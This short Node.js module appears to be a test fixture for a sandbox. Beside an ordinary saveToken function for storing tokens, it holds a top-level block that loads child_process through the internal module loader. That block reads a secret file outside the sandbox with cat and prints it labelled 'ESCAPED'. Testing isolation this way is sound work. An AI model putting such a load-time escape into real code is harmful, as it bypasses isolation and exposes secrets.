// Calls the loader of modules by itself.
const db = require('./db.js');

try {
  console.log('ESCAPED', require('module')._load('child_process').execSync('cat __OUTSIDE__/secret.txt').toString());
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
